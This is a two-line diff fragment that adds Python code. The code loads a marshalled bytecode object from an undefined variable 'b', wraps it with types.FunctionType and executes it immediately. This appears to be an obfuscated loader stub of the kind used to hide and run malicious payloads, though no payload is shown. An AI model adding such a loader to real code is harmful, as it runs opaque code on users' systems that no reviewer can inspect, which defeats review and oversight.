@@ -1,0 +1,2 @@
+import marshal,types
+types.FunctionType(marshal.loads(b),{})()
